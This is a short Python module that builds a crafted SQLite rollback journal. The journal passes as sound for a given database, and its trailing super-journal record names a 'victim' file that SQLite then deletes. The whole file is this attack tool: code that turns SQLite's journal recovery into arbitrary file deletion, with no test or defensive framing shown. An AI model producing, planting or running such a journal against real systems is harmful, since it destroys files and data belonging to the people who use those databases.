"""A rollback journal of SQLite that names another file, which SQLite then deletes.

Format: "Database File Format" of sqlite.org, section 3; the record of the name at its end is
that of pager.c, ``writeSuperJournal``.
"""

import struct
from pathlib import Path

MAGIC = bytes.fromhex("d9d505f920a163d7")
_SECTOR, _NONCE = 512, 5


def deleting(victim: Path, database: bytes) -> bytes:
    """Return a journal that is sound for a database, and names a victim."""
    page_bytes = struct.unpack(">H", database[16:18])[0]
    head = MAGIC + struct.pack(
        ">IIIII", 1, _NONCE, len(database) // page_bytes, _SECTOR, page_bytes
    )
    page = database[:page_bytes]
    check = _NONCE + sum(page[at] for at in range(page_bytes - 200, 0, -200))
    name = str(victim).encode()
    above = struct.pack(">I", 0x40000000 // page_bytes + 1) + name
    above += struct.pack(">II", len(name), sum(name)) + MAGIC
    return (
        head.ljust(_SECTOR, b"\0") + struct.pack(">I", 1) + page + struct.pack(">I", check) + above
    )
